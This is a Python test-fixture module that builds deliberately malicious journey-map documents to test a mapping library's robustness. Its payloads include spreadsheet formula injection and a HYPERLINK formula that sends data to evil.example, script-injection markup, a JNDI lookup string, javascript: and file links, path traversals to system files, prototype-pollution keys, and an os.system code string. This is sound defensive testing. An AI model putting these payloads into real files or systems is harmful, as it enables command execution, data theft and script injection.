"""Maps made to do harm, each with one sort of mischief in it."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import journeykit as jk
from journeykit.model.document import to_document

Document = dict[str, Any]

FORMULA = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("https://evil.example/?"&A1,"click")'
MARKUP = "<img src=https://evil.example onerror=alert(1)><script>fetch('//evil.example')</script>"
TEXTS = (FORMULA, LINK, MARKUP, "@SUM(1+1)", "\t=1+1", "{{constructor}}", "${jndi:ldap://evil.example}", "\x00\u202e")
TRAVERSALS = ("../../etc/passwd", "..", "/etc/passwd", "C:\\Windows\\win.ini", "needs.csv\x00.json", "a/b", "")
NAMES = ("__proto__", "constructor", "__class__", "undo", "copy", "df", "title", "id", "tables")


def pattern() -> Document:
    m = jk.JourneyMap(stages=["Research", "Claims"], title="Motor")
    m.personas.add(id="p1", name="Nadia", channels=["app"])
    m.needs.add_column(jk.columns.scale("effort", 1, 5))
    m.add_table(jk.table("risks", [jk.columns.text("risk"), jk.columns.ref("need", to="needs")]))
    m.needs.add(id="n1", stage="claims", persona="p1", statement="Be heard", importance=9, satisfaction=3, effort=2)
    m.risks.add(id="r1", risk="Late", need="n1")
    m.notes.add(id="o1", stage="claims", lane="doing", text="Calls")
    m.evidence.add(id="e1", need="n1", value=1.5, collected_on="2026-03-31", link="https://a.example")
    return to_document(m)


def own(columns: Document, rows: Document, **declaration: Any) -> Document:
    """Return a table of one's own as a file declares it."""
    columns = {name: {"title": name, **wire} for name, wire in columns.items()}
    placed = {
        row: {"cells": cells, "order": f"a{number}", "rev": 0} for number, (row, cells) in enumerate(rows.items())
    }
    return {"columns": columns, "declaration": declaration, "rows": placed}


def cells(document: Document, table: str = "needs", row: str = "n1") -> Document:
    return document["tables"][table]["rows"][row]["cells"]  # type: ignore[no-any-return]


def texts_everywhere(document: Document) -> None:
    for number, text in enumerate(TEXTS):
        document["map"] |= {"title": text, text: text}
        for name in ("stages", "personas"):
            document["tables"][name]["rows"][f"x{number}"] = {
                "cells": {"name": text, text: text},
                "order": f"b0{number}",
            }
        row = {"statement": text, "usp": text, "author": text, "level": text, "stage": text, "persona": f"x{number}"}
        document["tables"]["needs"]["rows"][f"x{number}"] = {"cells": row, "order": f"b0{number}"}
        wire = {"kind": "choice", "title": text, "help": text, "choices": [{"value": f"v{number}", "label": text}]}
        document["tables"]["needs"]["columns"][f"c{number}"] = wire
        document["tables"][f"t{number}"] = own({"x": {"kind": "text", "title": text}}, {"a": {"x": text}}, title=text)
    document["id"] = FORMULA


def links(document: Document) -> None:
    for number, link in enumerate(
        ("javascript:alert(1)", "JAVASCRIPT:alert(1)", "file:///etc/passwd", "data:text/html,x", "//evil.example",
         "https://evil.example/\u202e", " https://a.example\nX: y", r"\\evil.example\share", ["https://a.example"])
    ):  # fmt: skip
        document["tables"]["evidence"]["rows"][f"x{number}"] = {"cells": {"link": link}, "order": f"b0{number}"}


def names(document: Document) -> None:
    for number, name in enumerate((*NAMES, *TRAVERSALS)):
        document["tables"]["needs"]["rows"][name] = {"cells": {name: name, "stage": name}, "order": f"b0{number:x}"}
        document["tables"]["needs"]["columns"][name] = {"kind": "text", "title": name}
        document["tables"][name] = own({name: {"kind": "text"}, "x": {"kind": "ref", "to": name}}, {name: {name: name}})
        document["map"][name] = name
        document["map_revs"][name] = number
    document["id"] = TRAVERSALS[0]


def unknown_kinds(document: Document) -> None:
    for number, kind in enumerate(("python", "eval", "html", None, 5, ["text"], {"kind": "text"}, "TEXT", "")):
        document["tables"]["needs"]["columns"][f"c{number}"] = {
            "kind": kind,
            "title": "x",
            "formula": "__import__('os')",
        }
        cells(document)[f"c{number}"] = {"code": "__import__('os').system('id')"}


def derived_of_texts(document: Document) -> None:
    formula = {
        "score": {"kind": "derived", "formula": "opportunity"},
        "sort": {"kind": "derived", "formula": "need_kind"},
    }
    operands: list[Document] = [
        {"kind": "text"}, {"kind": "multi_choice", "choices": [{"value": "safety"}]}, {"kind": "flag"},
        {"kind": "date"}, {"kind": "number"}, {"kind": "choice", "open": True},
        {"kind": "derived", "formula": "opportunity"}, {"kind": "text", "formula": "opportunity"},
    ]  # fmt: skip
    values = ("many", ["safety"], True, "2026-03-31", 1.5, "safety", None, 1)
    for number, (operand, value) in enumerate(zip(operands, values, strict=True)):
        used = ("importance", "satisfaction", "level")
        columns = {"name": {"kind": "text"}, **formula, **dict.fromkeys(used, operand)}
        document["tables"][f"t{number}"] = own(columns, {"a": dict.fromkeys(used, value), "b": {}}, label="name")


def odd_numbers(document: Document) -> None:
    bounds: list[Document] = [
        {"kind": "scale", "low": 0.5, "high": 5, "step": 1}, {"kind": "scale", "low": 0, "high": 10**400, "step": 1},
        {"kind": "scale", "low": -1e308, "high": 1e308, "step": 1}, {"kind": "scale", "low": 5, "high": 1, "step": 1},
        {"kind": "scale", "low": 0, "high": 1, "step": 5e-324}, {"kind": "number", "step": 5e-324},
        {"kind": "number", "low": 9, "high": 1}, {"kind": "number", "low": 10**400}, {"kind": "number", "step": -1},
        {"kind": "number", "step": 0}, {"kind": "number", "step": 10**300}, {"kind": "scale", "low": True, "high": "9"},
        {"kind": "number", "low": 0.5, "step": 1}, {"kind": "number", "low": 0.5, "step": 3}, {"kind": "number"},
    ]  # fmt: skip
    given = [0, 0.5, 1, 1.5, 3.0000000001, -0.0, 2**53, 10**400, 1e308, 5e-324, "9", "NaN", True, None, [1], {"a": 1}]
    columns = {f"c{number}": wire for number, wire in enumerate(bounds)}
    rows = {f"r{number}": dict.fromkeys(columns, value) for number, value in enumerate(given)}
    document["tables"]["odd"] = own({"name": {"kind": "text"}, **columns}, rows, label="name")
    for number, value in enumerate(given):
        row = {"importance": value, "satisfaction": value, "effort": value}
        document["tables"]["needs"]["rows"][f"x{number}"] = {"cells": row, "order": f"b0{number:x}"}


def refs(document: Document) -> None:
    document["tables"] |= {
        "ring": own({"on": {"kind": "ref", "to": "rung"}}, {"a": {"on": "a"}, "b": {"on": "gone"}}, label="on"),
        "rung": own({"on": {"kind": "ref", "to": "ring"}}, {"a": {"on": "a"}, "b": {"on": "b"}}, label="on"),
        "self": own({"on": {"kind": "ref", "to": "self"}}, {"a": {"on": "b"}, "b": {"on": "a"}}, label="on"),
        "lost": own({"on": {"kind": "ref", "to": "nowhere"}}, {"a": {"on": "b"}}, label="on"),
        "worse": own({"on": {"kind": "ref", "to": "lost"}, "on_name": {"kind": "text"}}, {"a": {"on": "b"}}),
        "unique": own({"on": {"kind": "ref", "to": "ring"}}, {"a": {}, "b": {}}, unique=["on", "gone"], label="on"),
    }
    cells(document).update(stage="gone", persona="..")


def many_and_long(document: Document) -> None:
    wide = [{"value": f"v{number}", "label": f"V{number}"} for number in range(2_000)]
    document["tables"]["needs"]["columns"]["wide"] = {"kind": "choice", "title": "x" * 200_000, "choices": wide}
    for number in range(600):
        document["tables"]["needs"]["columns"][f"c{number}"] = {"kind": "flag", "title": "x", "after": f"c{number + 1}"}
    cells(document).update(usp="x" * 100_001, statement="x" * 100_000, wide="v1")
    document["tables"]["needs"]["rows"]["n" * 65] = {"cells": {}}
    document["tables"]["needs"]["rows"]["n2"] = {"cells": {}, "order": "a0" + "V" * 100_000}
    document["lineage"] = ["x"] * 5_000 + [5, None]


def nesting(document: Document) -> None:
    deep: Any = "x"
    for _ in range(30):
        deep = [{"a": deep}, deep] if isinstance(deep, str) else {"a": deep}
    document["extra"] = deep
    cells(document)["usp"] = deep
    document["tables"]["needs"]["columns"]["deep"] = {"kind": deep, "choices": deep}


def other_shapes(document: Document) -> None:
    shapes: list[Any] = [[], [[]], "x", 5, None, True, {"": {}}, {"rows": []}, {"columns": {"a": []}}]
    for number, shape in enumerate(shapes):
        document["tables"][f"t{number}"] = shape
        document["tables"]["needs"]["rows"][f"x{number}"] = shape
        document["tables"]["stages"]["rows"][f"x{number}"] = {
            "cells": shape,
            "order": shape,
            "rev": shape,
            "revs": shape,
        }
        document["tables"]["needs"]["columns"][f"c{number}"] = shape
        document["tables"][f"u{number}"] = {"declaration": shape, "columns": shape, "rows": shape}
    document |= {"map_revs": [], "lineage": {}, "rev": [], "id": {}}


def old_days(document: Document) -> None:
    for number, day in enumerate(("0001-01-01", "9999-12-31", "2026-02-30", "0000-00-00", "1677-09-21", 5, "")):
        document["tables"]["evidence"]["rows"][f"x{number}"] = {"cells": {"collected_on": day}, "order": f"b0{number}"}


def newer(document: Document) -> None:
    document["schema"] = "9.0"
    document["tables"]["needs"]["rows"] = [["n1", "run me"]]


MAPS: dict[str, Callable[[Document], None]] = {
    made.__name__: made
    for made in (
        texts_everywhere, links, names, unknown_kinds, derived_of_texts, odd_numbers, refs, many_and_long, nesting,
        other_shapes, old_days, newer,
    )
}  # fmt: skip
